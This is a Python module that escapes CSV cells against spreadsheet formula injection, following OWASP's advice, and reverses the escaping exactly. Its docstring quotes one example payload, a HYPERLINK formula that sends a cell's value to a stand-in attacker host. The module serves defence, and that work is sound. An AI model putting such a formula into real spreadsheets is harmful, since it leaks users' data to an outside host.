"""CSV cells a spreadsheet shows as text: no text cell the app writes can become a formula.

A spreadsheet opening a CSV runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in
some, a tab or carriage return before one) as a formula: a language named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link. Every CSV writer of
the app passes its cells through :func:`spreadsheet_safe`, which puts a single quote before such
a *text* cell (OWASP's advice for CSV injection); spreadsheets show the quote as a text marker.

Numbers stay numbers: a cost of ``-0.07`` that the app computed is written as ``-0.07``, since a
number cannot hold a formula and a quote would turn it into text. Only strings (names, texts,
tokens, code lines from users) are changed, even one that looks like a number (``"-5"``), as
OWASP asks. A text that already starts with quotes before one of those characters (``"'=x"``)
gets one more, so :func:`from_spreadsheet_safe` returns every written text exactly: the app reads
its own texts CSV back with it.
"""

from __future__ import annotations

import re

FORMULA_LEADERS = ("=", "+", "-", "@", "\t", "\r")

# A text that needs the quote: any quotes, then a formula leader. Reading drops one quote from a
# cell of that form, so writing then reading gives back the text unchanged.
_LEADER = "[" + re.escape("".join(FORMULA_LEADERS)) + "]"
_NEEDS_QUOTE = re.compile("'*" + _LEADER)
_QUOTED = re.compile("'+" + _LEADER)


def spreadsheet_safe(cell: object) -> object:
    """The cell to write to a CSV: a text a spreadsheet would run as a formula gets a leading ``'``.

    ``spreadsheet_safe("=1+1") -> "'=1+1"``, ``spreadsheet_safe("Hindi") -> "Hindi"``,
    ``spreadsheet_safe(-0.07) -> -0.07`` (numbers, None and booleans are returned as they are).
    """
    if isinstance(cell, str) and _NEEDS_QUOTE.match(cell):
        return "'" + cell
    return cell


def from_spreadsheet_safe(cell: str) -> str:
    """The text that :func:`spreadsheet_safe` wrote as `cell`: ``"'=1+1" -> "=1+1"``.

    Any other cell is returned unchanged (``"'quoted'" -> "'quoted'"``).
    """
    return cell[1:] if _QUOTED.match(cell) else cell


__all__ = ["FORMULA_LEADERS", "from_spreadsheet_safe", "spreadsheet_safe"]
